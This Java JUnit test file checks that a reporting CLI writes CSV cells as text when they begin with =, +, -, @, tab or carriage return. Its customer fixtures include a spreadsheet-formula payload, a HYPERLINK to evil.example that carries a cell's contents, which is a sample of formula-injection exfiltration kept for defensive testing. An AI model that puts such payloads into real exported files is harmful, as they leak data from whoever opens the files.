package com.keepwise.reports.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.keepwise.reports.decisions.SpreadsheetText;
import com.keepwise.reports.testing.DatasetFiles;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Issue 11, point 6: names and segments that a spreadsheet would run as formulas. */
class FormulaInjectionTest {

  @TempDir Path temp;

  Path dataset() throws IOException {
    return DatasetFiles.withCustomers()
        .customer("C1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "smb", "50000")
        .customer("C2", "+1+1", "@corp", "20000")
        .customer("C3", "-2+3", "-x", "20000")
        .customer("C4", "\tTabbed", "\rsmb", "20000")
        .customer("C5", "Plain - Name = fine", "smb", "20000")
        .writeTo(temp.resolve("data"));
  }

  List<CsvRecord> rows(Path csv) throws IOException {
    try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(csv)) {
      return reader.stream().toList();
    }
  }

  @Test
  void textCellsThatStartAFormulaAreWrittenAsText() throws IOException {
    Path out = temp.resolve("decisions.csv");
    CliRun run = CliRun.of("score", "--data", dataset().toString(), "--out", out.toString());
    assertEquals(ExitCodes.SUCCESS, run.exit(), run.err());
    List<CsvRecord> rows = rows(out);
    assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", rows.get(1).getField(1));
    assertEquals("'+1+1", rows.get(2).getField(1));
    assertEquals("'@corp", rows.get(2).getField(2));
    assertEquals("'-2+3", rows.get(3).getField(1));
    assertEquals("'-x", rows.get(3).getField(2));
    assertEquals("'\tTabbed", rows.get(4).getField(1));
    assertEquals("'\rsmb", rows.get(4).getField(2));
    assertEquals("Plain - Name = fine", rows.get(5).getField(1));
    for (CsvRecord row : rows.subList(1, rows.size())) {
      for (int column : new int[] {4, 5}) {
        assertTrue(
            row.getField(column).matches("\\d+\\.\\d"),
            "scores stay numbers: " + row.getField(column));
      }
    }
  }

  @Test
  void theRawFlagWritesTheValuesAsTheyAre() throws IOException {
    Path out = temp.resolve("decisions.csv");
    CliRun run =
        CliRun.of("score", "--data", dataset().toString(), "--out", out.toString(), "--raw-csv");
    assertEquals(ExitCodes.SUCCESS, run.exit(), run.err());
    List<CsvRecord> rows = rows(out);
    assertEquals("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", rows.get(1).getField(1));
    assertEquals("@corp", rows.get(2).getField(2));
  }

  @Test
  void onlyTheFirstCharacterOfATextCellCounts() {
    assertEquals("'-12", SpreadsheetText.NEUTRALISED.cell("-12"));
    assertEquals("", SpreadsheetText.NEUTRALISED.cell(""));
    assertEquals("a=b", SpreadsheetText.NEUTRALISED.cell("a=b"));
    assertEquals("-12", SpreadsheetText.RAW.cell("-12"));
  }
}
